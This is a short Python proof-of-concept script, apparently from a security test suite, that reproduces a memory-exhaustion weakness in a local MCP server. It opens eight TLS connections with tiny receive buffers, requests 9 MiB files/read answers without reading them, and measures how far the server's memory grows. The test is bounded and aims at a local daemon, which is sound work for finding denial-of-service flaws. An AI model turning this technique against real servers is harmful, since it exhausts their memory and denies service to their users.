"""The stateless-era (2026-07-28) form of unread_json_answers.py: 8 unread 9 MiB answers, no session
at all, made the front's RSS grow 50 -> 253 MiB. Start a daemon: python attacks13/_daemon.py
/tmp/a13d5; then: A13_STATE=/tmp/a13d5 python THIS (bounded: 8 connections, closed after 8 s)."""
import json, socket, ssl, sys, time
from pathlib import Path
sys.path.insert(0, str(Path(__file__).parent))
from _probe import C
pid = C["pid"]
def rss(): return int([l for l in open(f"/proc/{pid}/status") if l.startswith("VmRSS")][0].split()[1]) // 1024
host, port = C["url"][8:].split(":")
V = "2026-07-28"; META = {"io.modelcontextprotocol/protocolVersion": V, "io.modelcontextprotocol/clientCapabilities": {}}
big = Path("/tmp/a13-big.txt")
big.write_bytes((b"x" * 99 + b"\n") * (9 * 1024 * 1024 // 100))
print("start", rss())
socks = []
for i in range(8):
    body = json.dumps({"jsonrpc": "2.0", "id": i, "method": "tools/call", "params": {"name": "files/read", "arguments": {"path": str(big), "offset": 0, "limit": 9*1024*1024}, "_meta": META}}).encode()
    raw = socket.socket(); raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096); raw.connect((host, int(port)))
    s = ssl.create_default_context(cafile=C["cacert"]).wrap_socket(raw, server_hostname="127.0.0.1")
    s.sendall((f"POST /mcp HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {C['token']}\r\nContent-Type: application/json\r\nAccept: application/json\r\n"
               f"MCP-Protocol-Version: {V}\r\nMcp-Method: tools/call\r\nMcp-Name: files/read\r\nContent-Length: {len(body)}\r\n\r\n").encode() + body)
    socks.append(s)
time.sleep(8); print("8 unread stateless answers", rss())
for s in socks: s.close()
